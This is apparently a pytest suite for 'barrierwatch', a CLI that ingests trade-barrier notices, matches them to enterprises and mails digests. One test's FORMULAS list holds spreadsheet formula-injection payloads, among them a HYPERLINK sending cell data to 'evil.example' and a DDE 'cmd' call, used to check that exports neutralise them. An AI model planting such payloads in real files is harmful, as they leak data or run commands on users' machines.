import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from cli import app
from config import Settings
from store.db import open_database

ROOT = Path(__file__).resolve().parents[1]
runner = CliRunner()


def run(*args):
    return runner.invoke(app, list(args), catch_exceptions=False)


def barrierwatch(*args, cwd):
    env = {k: v for k, v in os.environ.items() if not k.startswith("BW_")}
    env["BW_MODEL_DIR"] = str(cwd / "no-model")  # codes only, whether or not a model was built here

    return subprocess.run(
        [sys.executable, "-m", "cli", *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=300
    )


def test_demo_twice_writes_each_digest_once(tmp_path):
    first = barrierwatch("demo", cwd=tmp_path)
    assert first.returncode == 0, first.stderr
    mails = sorted((tmp_path / "var/outbox/new").iterdir())
    assert len(mails) >= 6
    second = barrierwatch("demo", cwd=tmp_path)
    assert second.returncode == 0, second.stderr
    assert "0 new, 0 revised, 172 unchanged" in second.stderr
    assert "0 new alerts" in second.stderr and "0 new digests" in second.stderr
    assert sorted((tmp_path / "var/outbox/new").iterdir()) == mails
    exported = json.loads(barrierwatch("alerts", "export", "--format", "json", cwd=tmp_path).stdout)
    pairs = [(a["notice_id"], a["enterprise"]) for a in exported]
    assert len(pairs) == len(set(pairs))
    # One alert per event and enterprise, however many sources report it.
    events = [
        (a["measure"], a["notice_external_id"] if a["measure"].startswith("wto:") else "", a["enterprise"])
        for a in exported
    ]
    assert len(events) == len(set(events))
    flooring = [a for a in exported if a["enterprise"] == "抚松多层木地板示范有限公司"]
    # The bundled orders are years old: history, not news (never critical).
    assert flooring and {a["severity"] for a in flooring} <= {"high", "normal"}
    assert any("A-570-970" in a["reason"] for a in flooring) and any(
        "C-570-971" in a["reason"] for a in flooring
    )

    assert not [a for a in exported if a["enterprise"] == "延边木制餐具示范有限公司"]


def test_bad_ingest_file_exits_non_zero_naming_line_and_field(tmp_path):
    path = tmp_path / "bad.jsonl"
    path.write_text('{"id": "1", "source": "s", "doc_type": "tbt", "country": "XX-land", "title": "t"}\n')
    result = run("ingest", str(path))
    assert result.exit_code == 1
    assert "line 1, field 'country': unknown country 'XX-land'" in result.output


def test_outdated_database_asks_for_db_upgrade():
    engine = open_database(Settings().database_url)
    with engine.begin() as conn:
        conn.execute(text("UPDATE alembic_version SET version_num = 'old'"))
    result = run("notices", "list")
    assert result.exit_code == 1 and "barrierwatch db upgrade" in result.output


def test_notices_list_json_has_the_documented_fields(tmp_path):
    run("ingest", str(ROOT / "demo/notices.jsonl"))
    run("classify")
    rows = json.loads(run("notices", "list", "--format", "json", "--limit", "3").stdout)
    assert len(rows) == 3
    assert set(rows[0]) == {
        "id",
        "external_id",
        "measure",
        "source",
        "doc_type",
        "country",
        "subject_countries",
        "case_numbers",
        "title",
        "url",
        "published",
        "comment_deadline",
        "tags",
        "tag_chars_read",  # set when the notice was too long to be read whole
        "tag_error",  # why tagging the notice failed, if it did
    }


def test_approve_needs_all_or_ids():
    assert run("alerts", "approve").exit_code == 1
    assert "alert 7: no such alert" in run("alerts", "approve", "--id", "7").output


def test_bad_setting_is_named(monkeypatch):
    monkeypatch.setenv("BW_TIMEZONE", "Mars/Olympus")
    result = run("notices", "list")
    assert result.exit_code == 1 and "unknown time zone 'Mars/Olympus'" in result.output


@pytest.mark.parametrize("name", sorted(Settings.model_fields))
def test_every_setting_is_documented_in_the_readme(name):
    assert f"`BW_{name.upper()}`" in (ROOT / "README.md").read_text(encoding="utf-8")


def test_digest_preview_writes_the_next_digest_and_refuses_an_empty_one(tmp_path):
    run(
        "ingest",
        str(ROOT / "demo/notices.jsonl"),
        str(ROOT / "demo/eping-export-search-results-2025-06-sample.xlsx"),
    )
    run("enterprises", "import", str(ROOT / "demo/enterprises.csv"))
    run("classify")
    run("match")
    out = tmp_path / "preview.html"
    empty = run("digests", "preview", "Liaoyuan Hosiery Demo Co.", "--out", str(out))
    assert empty.exit_code == 1 and "no approved alert waits" in empty.output and not out.exists()
    assert run("alerts", "approve", "--all", "--by", "inspector-li").exit_code == 0
    result = run("digests", "preview", "Liaoyuan Hosiery Demo Co.", "--out", str(out))
    assert result.exit_code == 0, result.output
    html = out.read_text(encoding="utf-8")
    assert "Safer Products Restrictions and Reporting" in html and "贸易壁垒预警" in html
    assert run("digests", "preview", "Nobody Ltd", "--out", str(out)).exit_code == 1


def test_enterprises_export_round_trips_through_import(tmp_path):
    run("enterprises", "import", str(ROOT / "demo/enterprises.csv"))
    exported = tmp_path / "out.csv"
    exported.write_text(run("enterprises", "export", "--format", "csv").stdout, encoding="utf-8")
    result = run("enterprises", "import", str(exported))
    assert result.exit_code == 0 and "0 created, 0 updated, 7 unchanged" in result.output
    rows = json.loads(run("enterprises", "export", "--format", "json").stdout)
    flooring = next(r for r in rows if r["name_en"] == "Fusong Multilayer Flooring Demo Co.")
    assert flooring["hs_codes"] == ["4418.75"] and flooring["followed_cases"] == ["A-570-970", "C-570-971"]


def test_send_only_critical_leaves_the_weekly_digest_for_later():
    run(
        "ingest",
        str(ROOT / "demo/notices.jsonl"),
        str(ROOT / "demo/eping-export-search-results-2025-06-sample.xlsx"),
    )
    run("enterprises", "import", str(ROOT / "demo/enterprises.csv"))
    run("classify")
    run("match")
    run("alerts", "approve", "--all", "--by", "inspector-li")
    assert run("send", "--only", "critical").exit_code == 0
    waiting = json.loads(run("alerts", "export", "--status", "approved").stdout)
    assert waiting and {a["severity"] for a in waiting} <= {"high", "normal"}
    assert not [
        a
        for a in json.loads(run("alerts", "export").stdout)
        if a["severity"] == "critical" and a["status"] != "sent"
    ]


def test_a_read_only_database_gives_a_clear_error_and_keeps_its_rows(tmp_path, monkeypatch):
    path = tmp_path / "ro.db"
    monkeypatch.setenv("BW_DATABASE_URL", f"sqlite:///{path}")
    assert run("ingest", str(ROOT / "demo/notices.jsonl")).exit_code == 0
    monkeypatch.setenv("BW_DATABASE_URL", f"sqlite:///file:{path}?mode=ro&uri=true")
    result = run("ingest", str(ROOT / "demo/eping-export-search-results-2025-06-sample.xlsx"))
    assert result.exit_code == 1
    assert "refused the change (attempt to write a readonly database)" in result.output
    monkeypatch.setenv("BW_DATABASE_URL", f"sqlite:///{path}")
    assert len(json.loads(run("notices", "list", "--format", "json").stdout)) == 172


def test_a_locked_database_gives_a_clear_error_after_waiting(tmp_path, monkeypatch):
    import sqlite3

    path = tmp_path / "locked.db"
    monkeypatch.setenv("BW_DATABASE_URL", f"sqlite:///{path}")
    assert run("ingest", str(ROOT / "demo/notices.jsonl")).exit_code == 0
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    try:
        result = run("classify")
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert result.exit_code == 1 and "refused the change (database is locked)" in result.output
    assert run("classify").exit_code == 0  # once free, the stage runs from where it was


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]


def write_enterprises(path, rows):
    import csv

    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["name", "email", "hs_codes", "markets", "language", "keywords"])
        writer.writerows(rows)


def cells(csv_text):
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


def test_exports_write_formula_cells_as_text_and_import_them_back_as_they_were(tmp_path):
    rows = [
        [name, f"x{i}@maker.example", "4418.75", "US", "en", "\tflooring"] for i, name in enumerate(FORMULAS)
    ]
    write_enterprises(tmp_path / "hostile.csv", rows)
    assert run("enterprises", "import", str(tmp_path / "hostile.csv")).exit_code == 0
    run("ingest", str(ROOT / "demo/notices.jsonl"))
    run("classify")
    run("match")
    exports = [run("enterprises", "export").stdout, run("alerts", "export", "--format", "csv").stdout]
    for exported in exports:
        written = cells(exported)
        assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {"'" + name for name in FORMULAS} <= set(cells(exports[0])) & set(cells(exports[1]))
    (tmp_path / "out.csv").write_text(exports[0], encoding="utf-8")
    again = run("enterprises", "import", str(tmp_path / "out.csv"))
    assert again.exit_code == 0 and "0 created, 0 updated, 4 unchanged" in again.output
    names = {r["name"] for r in json.loads(run("enterprises", "export", "--format", "json").stdout)}
    assert names == set(FORMULAS)


def test_send_from_another_directory_signs_links_the_server_accepts(tmp_path, monkeypatch):
    import email
    from email import policy

    from fastapi.testclient import TestClient

    import pipeline
    from tests import scenario
    from web.app import create_app

    url = f"sqlite:///{tmp_path / 'data' / 'bw.db'}"
    monkeypatch.setenv("BW_DATABASE_URL", url)
    engine = open_database(url)
    scenario.load(engine)
    pipeline.match(engine, Settings(), scenario.NOW)
    pipeline.approve(engine, None, "inspector-li")
    cron = tmp_path / "cron"
    cron.mkdir()
    monkeypatch.chdir(cron)  # the scheduler's or an operator's working directory
    assert run("send").exit_code == 0
    monkeypatch.chdir(tmp_path)  # the web server's
    mails = list((tmp_path / "outbox" / "new").iterdir())
    assert mails
    client = TestClient(create_app(Settings(), engine))
    for mail in mails:
        message = email.message_from_bytes(mail.read_bytes(), policy=policy.default)
        link = message["List-Unsubscribe"].strip("<>").removeprefix("http://127.0.0.1:8000")
        page = client.get(link)
        assert page.status_code == 200 and message["To"] in page.text
    assert not (cron / "var").exists()


def test_remind_records_reminders_once_and_names_a_bad_setting(monkeypatch):
    result = run("remind")
    assert result.exit_code == 0 and "0 new deadline reminders (thresholds 14,3 days)" in result.output
    monkeypatch.setenv("BW_REMINDER_DAYS", "14,soon")
    bad = run("remind")
    assert bad.exit_code == 1 and "reminder_days" in bad.output and "14,3" in bad.output


def test_sources_list_shows_file_importers_as_such_not_as_never_crawled():
    """Issue #19 item 8: a source of notices imported from a file is never crawled."""
    assert run("ingest", str(ROOT / "demo/notices.jsonl")).exit_code == 0
    listed = run("sources", "list").stdout.splitlines()
    files = [line for line in listed if line.split()[1:2] == ["file"]]
    assert files and all("file import" in line and "not crawled" not in line for line in files)
